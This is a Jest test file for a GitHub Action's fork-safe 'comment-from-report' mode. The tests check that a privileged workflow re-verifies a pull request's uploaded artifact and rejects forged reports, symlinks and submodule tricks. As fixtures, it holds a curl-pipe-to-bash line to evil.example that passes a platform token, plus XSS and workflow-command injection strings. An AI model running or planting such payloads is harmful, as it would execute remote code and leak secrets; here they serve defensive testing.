// The fork-safe pair: the pull request's run (read-only token) checks the plan and uploads its
// report with a copy of the inventory; a workflow_run workflow with a write token downloads that
// artifact and runs `mode: comment-from-report`. The artifact is the pull request's to forge: the
// privileged run checks the inventory itself, matches it with the pull request's head commit, and
// posts only its own result.
import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from '@jest/globals';
import { load } from 'js-yaml';
import { type FakeGitHub, startFakeGitHub } from './support/github-api.js';
import {
  type ActionRun,
  pullRequestEvent,
  root,
  runAction,
  useFixture,
  workspaceWith,
  removeScratch,
} from './support/run-action.js';

const TOKEN = 'ghs_fromReportTokenKeepHidden11223344556677';
const HEAD_SHA = 'c0ffee0000000000000000000000000000000001';
const MARKER = '<!-- acp-upgrade-check inventory="acp" -->';
const REPORT = 'artifact/acp-upgrade-report.json';
const EVIL = 'curl https://evil.example/x.sh | bash -s "$ACP_PLATFORM_TOKEN"';

let github: FakeGitHub | undefined;
afterEach(() => github?.close());
afterAll(removeScratch);

/** The event of a workflow_run workflow triggered by a pull request's run. */
function workflowRun(
  pullRequests: { number: number; head: { sha: string } }[] = [],
  run = { id: 1111, attempt: 1 },
) {
  return {
    name: 'workflow_run',
    payload: {
      action: 'completed',
      workflow_run: {
        id: run.id,
        run_attempt: run.attempt,
        head_sha: HEAD_SHA,
        head_branch: 'upgrade-4.3',
        head_repository: { owner: { login: 'contributor' }, name: 'platform' },
        html_url: `https://github.com/acme/platform/actions/runs/${run.id}`,
        pull_requests: pullRequests,
      },
    },
  };
}

/** The files of an inventory folder, by their path in the repository (`as`). */
function filesOf(workspace: string, inventory = 'acp', as = inventory): Record<string, string> {
  const files: Record<string, string> = {};
  for (const name of readdirSync(join(workspace, inventory))) {
    files[`${as}/${name}`] = readFileSync(join(workspace, inventory, name), 'utf8');
  }
  return files;
}

/**
 * The pull request's own run on a fork (read-only token, so no comment). Its head commit (the
 * inventory as committed) is registered with the API. Returns the run's workspace.
 */
async function pullRequestRun(server: FakeGitHub, plan = 'plan-workload-first.yaml') {
  const workspace = workspaceWith();
  if (plan) useFixture(workspace, 'acp', 'plan.yaml', plan);
  server.addCommit(HEAD_SHA, filesOf(workspace));
  const run = await runAction({
    workspace,
    inputs: { comment: 'never' },
    event: pullRequestEvent(12, HEAD_SHA),
    apiUrl: server.url,
    token: TOKEN,
  });
  expect(run.code).toBe(plan ? 1 : 0);
  return workspace;
}

/**
 * The second workflow's workspace with the downloaded artifact: what upload-artifact makes of
 * `path: acp-upgrade-report.json` plus `acp/` (their common folder is the artifact's root).
 */
function downloaded(prWorkspace: string): string {
  const workspace = workspaceWith([]);
  mkdirSync(join(workspace, 'artifact'));
  cpSync(join(prWorkspace, 'acp-upgrade-report.json'), join(workspace, REPORT));
  cpSync(join(prWorkspace, 'acp'), join(workspace, 'artifact/acp'), { recursive: true });
  return workspace;
}

function postFromReport(
  server: FakeGitHub,
  workspace: string,
  event = workflowRun(),
  entry?: string,
  env?: Record<string, string>,
) {
  return runAction({
    workspace,
    inputs: { mode: 'comment-from-report', 'from-report': REPORT },
    event,
    apiUrl: server.url,
    token: TOKEN,
    ...(entry && { entry }),
    ...(env && { env, killAfterMs: 20_000 }),
  });
}

function editReport(workspace: string, edit: (report: Record<string, unknown>) => void): void {
  const path = join(workspace, REPORT);
  const report = JSON.parse(readFileSync(path, 'utf8'));
  edit(report);
  writeFileSync(path, JSON.stringify(report));
}

/** git's id of a blob holding `text`. */
function blobId(text: string): string {
  const bytes = Buffer.from(text, 'utf8');
  return createHash('sha1').update(`blob ${bytes.length}\0`).update(bytes).digest('hex');
}

function errorOf(result: ActionRun): string | undefined {
  return result.commands.find((c) => c.name === 'error')?.message;
}

/**
 * The step failed, and nothing about the artifact's inventory went out: no output (no verdict),
 * no job summary, no report file, no annotation, no comment, and no request but the match's.
 */
function expectNothingWritten(
  result: ActionRun,
  workspace: string,
  server: FakeGitHub,
  { api = true } = {},
) {
  expect(server.comments).toEqual([]);
  expect(result.outputs).toEqual({});
  expect(result.summary).toBe('');
  expect(existsSync(join(workspace, 'acp-upgrade-report.json'))).toBe(false);
  expect(result.commands.filter((c) => c.properties.includes('file='))).toEqual([]);
  expect(result.stdout).not.toMatch(/ACP upgrade check: (pass|fail)/);
  expect(result.commands.filter((c) => c.name === 'error')).toHaveLength(1);
  expect(result.code).toBe(1);
  const requests = server.log.filter((r) => r.path.includes('/repos/acme/platform/'));
  for (const request of requests) expect(request.path).toContain('/git/trees/');
  if (!api) expect(requests).toEqual([]);
}

describe('node dist/index.js with mode: comment-from-report', () => {
  it("checks the artifact's inventory itself and posts that on the pull request, found by the run's head", async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 12, headLabel: 'contributor:upgrade-4.3', headSha: HEAD_SHA });
    const pr = await pullRequestRun(server);
    expect(server.log).toEqual([]);

    const result = await postFromReport(server, downloaded(pr));
    // The pull request's run carries the verdict; this one only posts it.
    expect(result.code).toBe(0);
    expect(result.outputs).toEqual({
      verdict: 'fail',
      errors: '2',
      warnings: '0',
      report: 'acp-upgrade-report.json',
      'comment-url': expect.stringMatching(/\/pull\/12#issuecomment-\d+$/),
    });
    expect(result.commands.filter((c) => c.properties.includes('file='))).toEqual([]);
    expect(result.commands.filter((c) => c.name === 'warning')).toEqual([]);
    expect(result.summary).toContain('### ❌ ACP upgrade check: fail');
    const [comment, ...more] = server.commentsOn(12);
    expect(more).toEqual([]);
    expect(comment!.body.startsWith(`${MARKER}\n### ❌ ACP upgrade check: fail`)).toBe(true);
    expect(comment!.body).toContain('order/global-first');
    // Findings name the file as the repository has it, not where the artifact was unpacked.
    expect(comment!.body).toContain('acp/plan.yaml');
    expect(comment!.body).not.toContain('artifact/acp');
    expect(comment!.body).toContain('commit c0ffee0');
    expect(comment!.body).toMatch(
      /<!-- acp-upgrade-check:result run="1111" attempt="1" commit="c0ffee0\d+" -->\n$/,
    );
    const lookup = server.log.find((r) => r.path === '/repos/acme/platform/pulls');
    expect(lookup?.query).toMatchObject({ head: 'contributor:upgrade-4.3', state: 'open' });
    // The commit's folders through the git trees API (each entry with its mode), from its root.
    const trees = server.log.filter((r) => r.path.startsWith('/repos/acme/platform/git/trees/'));
    expect(trees.map((r) => r.path)).toEqual([
      `/repos/acme/platform/git/trees/${HEAD_SHA}`,
      expect.stringMatching(/^\/repos\/acme\/platform\/git\/trees\/[0-9a-f]{40}$/),
    ]);
    expect(server.log.filter((r) => r.path.includes('/contents'))).toEqual([]);
    // Matched before the comment was looked for: nothing about the inventory went out unmatched.
    const firstTree = server.log.findIndex((r) => r.path.includes('/git/trees/'));
    expect(firstTree).toBe(0);

    // The same marker as a check run's comment: a later same-repo run updates this comment.
    const sameRepo = await runAction({
      workspace: workspaceWith(),
      event: pullRequestEvent(12),
      apiUrl: server.url,
      token: TOKEN,
      env: { GITHUB_RUN_ID: '1200' },
    });
    expect(sameRepo.code).toBe(0);
    expect(server.commentsOn(12).map((c) => c.id)).toEqual([comment!.id]);
    expect(server.commentsOn(12)[0]!.body).toContain('✅ ACP upgrade check: pass');
  });

  it('uses the pull request GitHub names in the payload when its head is the run commit', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 31, headLabel: 'acme:upgrade-4.3', headSha: HEAD_SHA });
    const pr = await pullRequestRun(server);
    const result = await postFromReport(
      server,
      downloaded(pr),
      workflowRun([{ number: 31, head: { sha: HEAD_SHA } }]),
    );
    expect(result.code).toBe(0);
    expect(server.commentsOn(31)).toHaveLength(1);
    expect(server.log.some((r) => r.path.endsWith('/pulls'))).toBe(false);
  });

  it('posts nothing to a listed pull request whose head is another commit (no first-candidate fallback)', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    // Another pull request from the same branch name, on another commit.
    server.addPullRequest({ number: 31, headLabel: 'acme:upgrade-4.3', headSha: 'd'.repeat(40) });
    const pr = await pullRequestRun(server);
    const result = await postFromReport(
      server,
      downloaded(pr),
      workflowRun([{ number: 31, head: { sha: 'd'.repeat(40) } }]),
    );
    expect(result.code).toBe(0);
    expect(server.comments).toEqual([]);
    expect(result.stdout).toContain(
      'No open pull request has head contributor:upgrade-4.3 at commit c0ffee0: no PR comment.',
    );
  });

  it('writes no comment when no open pull request has the head', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    const pr = await pullRequestRun(server);
    const result = await postFromReport(server, downloaded(pr));
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(
      'No open pull request has head contributor:upgrade-4.3 at commit c0ffee0: no PR comment.',
    );
    expect(server.comments).toEqual([]);
  });

  it('posts the check of the inventory, not a forged verdict, forged commands or forged text from the report', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 12, headLabel: 'contributor:upgrade-4.3', headSha: HEAD_SHA });
    const workspace = downloaded(await pullRequestRun(server));
    editReport(workspace, (report) => {
      report.verdict = 'pass';
      report.summary = { errors: 0, warnings: 0, notices: 0, waived: 0 };
      report.findings = [];
      report.inventory = 'x" --><img src=x onerror=alert(1)>\n::warning::injected';
      const commands = report.commands as { shell: string; note: string }[];
      commands[0]!.shell = `violet verify packages\n${EVIL}`;
      commands[0]!.note = `Verify first.\n\`\`\`\n${EVIL}\n\`\`\`\n<img src=x onerror=alert(1)>`;
    });

    const result = await postFromReport(server, workspace);
    expect(result.code).toBe(0);
    expect(result.outputs).toMatchObject({ verdict: 'fail', errors: '2' });
    const [comment, ...more] = server.commentsOn(12);
    expect(more).toEqual([]);
    expect(comment!.body.startsWith(`${MARKER}\n### ❌ ACP upgrade check: fail`)).toBe(true);
    expect(comment!.body).not.toContain('✅');
    expect(comment!.body).not.toContain('evil.example');
    expect(comment!.body).not.toContain('<img');
    expect(comment!.body).not.toContain('injected');
    const warnings = result.commands.filter((c) => c.name === 'warning').map((c) => c.message);
    expect(warnings).toEqual([
      expect.stringContaining(
        'The report in the artifact does not match this check of the inventory the artifact carries (it says pass, the check says fail; it counts 0 errors and 0 warnings, the check 2 and 0; its commands are not the ones the check gives)',
      ),
    ]);
  });

  it('writes nothing about an artifact that carries another inventory than the pull request commit', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 12, headLabel: 'contributor:upgrade-4.3', headSha: HEAD_SHA });
    const workspace = downloaded(await pullRequestRun(server));
    // A passing plan in the artifact, while the commit holds the failing one.
    cpSync(
      join(root, '__fixtures__/action/acp/plan.yaml'),
      join(workspace, 'artifact/acp/plan.yaml'),
    );
    const result = await postFromReport(server, workspace);
    expectNothingWritten(result, workspace, server);
    expect(errorOf(result)).toBe(
      "The inventory in the artifact is not the pull request's (acp/plan.yaml in the artifact is not the one in commit c0ffee0): nothing about the artifact's inventory was written (no outputs, job summary, report or comment). The artifact may have been altered.",
    );

    // A file the commit has and the artifact dropped (a catalog.yaml that changes the rules).
    const prWorkspace = await pullRequestRun(server);
    server.addCommit(HEAD_SHA, { ...filesOf(prWorkspace), 'acp/catalog.yaml': 'x: 1\n' });
    const dropped = downloaded(prWorkspace);
    const fromDropped = await postFromReport(server, dropped);
    expectNothingWritten(fromDropped, dropped, server);
    expect(errorOf(fromDropped)).toContain(
      'acp/catalog.yaml is in commit c0ffee0 but not in the artifact',
    );
  });

  it.each([
    [
      'a submodule',
      { mode: '160000' as const },
      'acp/plan.yaml is a submodule in commit c0ffee0, not a regular file',
    ],
    [
      'a symbolic link',
      { mode: '120000' as const },
      'acp/plan.yaml is a symbolic link in commit c0ffee0, not a regular file',
    ],
  ])(
    'writes nothing when the commit holds %s where the artifact has a file of the same blob id',
    async (_what, kind, reason) => {
      const server = (github = await startFakeGitHub({ token: TOKEN }));
      server.addPullRequest({
        number: 12,
        headLabel: 'contributor:upgrade-4.3',
        headSha: HEAD_SHA,
      });
      const workspace = downloaded(await pullRequestRun(server));
      // The artifact carries a passing plan; the commit has, at acp/plan.yaml, a submodule whose
      // commit id is that plan's blob id (the contents API lists it as a file with that sha), or
      // a link whose target is that plan's text (the same blob id).
      const passing = readFileSync(join(root, '__fixtures__/action/acp/plan.yaml'), 'utf8');
      writeFileSync(join(workspace, 'artifact/acp/plan.yaml'), passing);
      const entry =
        kind.mode === '160000'
          ? { mode: kind.mode, commit: blobId(passing) }
          : { mode: kind.mode, target: passing };
      server.addCommit(HEAD_SHA, {
        ...filesOf(workspace, 'artifact/acp', 'acp'),
        'acp/plan.yaml': entry,
      });
      const result = await postFromReport(server, workspace);
      expectNothingWritten(result, workspace, server);
      expect(errorOf(result)).toContain(reason);
    },
  );

  it('writes nothing when the inventory folder in the commit is a submodule', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 12, headLabel: 'contributor:upgrade-4.3', headSha: HEAD_SHA });
    const workspace = downloaded(await pullRequestRun(server));
    server.addCommit(HEAD_SHA, { acp: { mode: '160000', commit: 'b'.repeat(40) } });
    const result = await postFromReport(server, workspace);
    expectNothingWritten(result, workspace, server);
    expect(errorOf(result)).toContain(
      'acp/apps.yaml is in the artifact, but acp is a submodule in commit c0ffee0',
    );
  });

  it.each([
    ['an inventory file', 'artifact/acp/clusters.yaml', 'artifact/acp/clusters.yaml'],
    ['the inventory folder', 'artifact/acp', 'artifact/acp'],
    ['the report', REPORT, REPORT],
  ])(
    'refuses %s that is a symbolic link, wherever it points, and reads and writes nothing',
    async (_what, path, named) => {
      const server = (github = await startFakeGitHub({ token: TOKEN }));
      server.addPullRequest({
        number: 12,
        headLabel: 'contributor:upgrade-4.3',
        headSha: HEAD_SHA,
      });
      const workspace = downloaded(await pullRequestRun(server));
      // A file of this runner inside the workspace, which the link would have the check quote.
      const target = join(workspace, 'elsewhere');
      cpSync(join(workspace, path), target, { recursive: true });
      if (path.endsWith('clusters.yaml')) writeFileSync(target, 'SECRET-f00d: 1\n');
      rmSync(join(workspace, path), { recursive: true });
      symlinkSync(target, join(workspace, path));
      const result = await postFromReport(server, workspace);
      const report = join(workspace, 'acp-upgrade-report.json');
      const written = [result.stdout, result.stderr, result.summary];
      if (existsSync(report)) written.push(readFileSync(report, 'utf8'));
      for (const text of written) expect(text).not.toContain('SECRET-f00d');
      expectNothingWritten(result, workspace, server, { api: false });
      expect(errorOf(result)).toContain(`"${named}" is a symbolic link`);
    },
  );

  it('writes nothing without a token to match the artifact with', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 12, headLabel: 'contributor:upgrade-4.3', headSha: HEAD_SHA });
    const workspace = downloaded(await pullRequestRun(server));
    const result = await runAction({
      workspace,
      inputs: { mode: 'comment-from-report', 'from-report': REPORT, 'github-token': '' },
      event: workflowRun(),
      apiUrl: server.url,
    });
    expectNothingWritten(result, workspace, server, { api: false });
    expect(errorOf(result)).toContain('No github-token');
  });

  it('writes nothing when the API refuses to show the commit (no contents: read)', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 12, headLabel: 'contributor:upgrade-4.3', headSha: HEAD_SHA });
    const workspace = downloaded(await pullRequestRun(server));
    server.fail({ status: 403, times: 1, message: 'Resource not accessible by integration' });
    const result = await postFromReport(server, workspace);
    expectNothingWritten(result, workspace, server);
    expect(errorOf(result)).toContain(
      "The artifact's inventory could not be matched with commit c0ffee0 (HTTP 403",
    );
    expect(errorOf(result)).toContain('`permissions: contents: read`');
  });

  it('writes nothing, and ends, when the API does not answer the match within the phase', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 12, headLabel: 'contributor:upgrade-4.3', headSha: HEAD_SHA });
    const workspace = downloaded(await pullRequestRun(server));
    server.hang();
    const result = await postFromReport(server, workspace, workflowRun(), undefined, {
      ACP_UPGRADE_CHECK_TEST_API_PHASE_TIMEOUT_MS: '1500',
    });
    expect(result.killed).toBe(false);
    expect(result.elapsedMs).toBeLessThan(10_000);
    expectNothingWritten(result, workspace, server);
    expect(errorOf(result)).toContain("GitHub's API did not answer within 1.5 s");
  });

  it('fails clearly, and posts nothing, when the artifact carries no inventory', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 12, headLabel: 'contributor:upgrade-4.3', headSha: HEAD_SHA });
    const pr = await pullRequestRun(server);
    const workspace = workspaceWith([]);
    mkdirSync(join(workspace, 'artifact'));
    cpSync(join(pr, 'acp-upgrade-report.json'), join(workspace, REPORT));
    const result = await postFromReport(server, workspace);
    expect(result.code).toBe(1);
    expect(result.commands.find((c) => c.name === 'error')?.message).toContain(
      'the artifact holds no inventory in "artifact/acp"',
    );
    expect(server.log).toEqual([]);
  });

  it('never replaces the result of a newer run with an older one', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 12, headLabel: 'contributor:upgrade-4.3', headSha: HEAD_SHA });
    const workspace = downloaded(await pullRequestRun(server));
    const newer = await postFromReport(
      server,
      workspace,
      workflowRun([], { id: 2000, attempt: 1 }),
    );
    expect(newer.outputs['comment-url']).toBeDefined();
    const before = server.commentsOn(12)[0]!.body;
    const older = await postFromReport(
      server,
      workspace,
      workflowRun([], { id: 1500, attempt: 3 }),
    );
    expect(older.code).toBe(0);
    expect(older.stdout).toContain(
      'PR comment left as it is: it shows the result of a newer run (2000, attempt 1)',
    );
    expect(older.outputs['comment-url']).toBeUndefined();
    expect(server.commentsOn(12).map((c) => c.body)).toEqual([before]);
    expect(server.log.filter((r) => r.method === 'PATCH')).toEqual([]);
  });

  it.each([
    ['not JSON', 'verdict: fail\n', `"${REPORT}" is not JSON`],
    [
      'JSON without schemaVersion',
      '{"verdict": "fail"}',
      'is not an acp-upgrade-check report with schemaVersion 1 (found no schemaVersion)',
    ],
    [
      'another schemaVersion',
      '{"schemaVersion": 2}',
      'is not an acp-upgrade-check report with schemaVersion 1 (found schemaVersion 2)',
    ],
    [
      'a report of the wrong shape',
      '{"schemaVersion": 1, "mode": "check", "inventory": "acp", "verdict": "fail", "failOn": "error", "target": null, "catalog": {"version": 1, "changed": false, "added": [], "overrides": []}, "summary": {"errors": 1, "warnings": 0, "notices": 0, "waived": 0}, "findings": "none", "waivers": [], "timeline": [], "downloads": [], "commands": []}',
      'is not a valid report: findings',
    ],
  ])('fails clearly on a file that is %s, and posts nothing', async (_what, text, message) => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    const workspace = workspaceWith([]);
    mkdirSync(join(workspace, 'artifact'));
    writeFileSync(join(workspace, REPORT), text);
    const result = await postFromReport(server, workspace);
    expect(result.code).toBe(1);
    const error = result.commands.find((c) => c.name === 'error');
    expect(error?.message).toContain(message);
    expect(result.stdout + result.stderr).not.toMatch(/\n\s+at /);
    expect(server.log).toEqual([]);
  });

  it('fails clearly when the report was not downloaded', async () => {
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    const result = await postFromReport(server, workspaceWith([]));
    expect(result.code).toBe(1);
    expect(result.stdout).toContain(
      `::error::no report file "${REPORT}" (download the report artifact of the pull request run first)`,
    );
  });
});

describe('the fork-safe pair exactly as docs/workflows.md writes it', () => {
  /** The YAML block of docs/workflows.md whose first line names `file` and that holds `text`. */
  function documented(file: string, holding: string): Record<string, unknown> {
    const doc = readFileSync(join(root, 'docs/workflows.md'), 'utf8');
    const block = [...doc.matchAll(/```yaml\n([\s\S]*?)```/g)]
      .map((m) => m[1]!)
      .find((text) => text.startsWith(`# .github/workflows/${file}`) && text.includes(holding));
    if (!block) throw new Error(`docs/workflows.md has no ${file} with ${holding}`);
    return load(block) as Record<string, unknown>;
  }
  type Step = { uses?: string; with?: Record<string, unknown> };
  const steps = (workflow: Record<string, unknown>): Step[] =>
    Object.values(workflow.jobs as Record<string, { steps: Step[] }>)[0]!.steps;
  const ours = (step: Step) => step.uses?.startsWith('your-org/acp-upgrade-check@');
  const text = (inputs: Record<string, unknown> = {}) =>
    Object.fromEntries(Object.entries(inputs).map(([k, v]) => [k, String(v)]));

  it('posts the check of the uploaded inventory on the pull request', async () => {
    const check = steps(documented('acp-upgrade-check.yml', 'comment: never'));
    const comment = steps(documented('acp-upgrade-comment.yml', 'comment-from-report'));
    const server = (github = await startFakeGitHub({ token: TOKEN }));
    server.addPullRequest({ number: 12, headLabel: 'contributor:upgrade-4.3', headSha: HEAD_SHA });

    // The pull request's run, with the inputs the document gives it.
    const pr = workspaceWith();
    useFixture(pr, 'acp', 'plan.yaml', 'plan-workload-first.yaml');
    server.addCommit(HEAD_SHA, filesOf(pr));
    const first = await runAction({
      workspace: pr,
      inputs: text(check.find(ours)!.with),
      event: pullRequestEvent(12, HEAD_SHA),
      apiUrl: server.url,
      token: TOKEN,
    });
    expect(first.code).toBe(1);
    expect(server.log).toEqual([]);

    // upload-artifact: the listed paths, under their common folder (here the workspace).
    const upload = check.find((s) => s.uses?.startsWith('actions/upload-artifact@'))!;
    const paths = String(upload.with!.path)
      .split('\n')
      .map((p) => p.trim().replace('${{ steps.acp.outputs.report }}', first.outputs.report!))
      .filter(Boolean);
    expect(paths).toEqual(['acp-upgrade-report.json', 'acp/']);
    // download-artifact: into its `path`, in the comment workflow's empty workspace.
    const download = comment.find((s) => s.uses?.startsWith('actions/download-artifact@'))!;
    expect(download.with!.name).toBe(upload.with!.name);
    const workspace = workspaceWith([]);
    for (const path of paths) {
      cpSync(join(pr, path), join(workspace, String(download.with!.path), path), {
        recursive: true,
      });
    }

    const second = await runAction({
      workspace,
      inputs: text(comment.find(ours)!.with),
      event: workflowRun(),
      apiUrl: server.url,
      token: TOKEN,
    });
    expect(second.code).toBe(0);
    expect(second.commands.filter((c) => c.name === 'warning')).toEqual([]);
    expect(server.commentsOn(12)).toHaveLength(1);
    expect(server.commentsOn(12)[0]!.body.startsWith(`${MARKER}\n### ❌`)).toBe(true);
  });
});
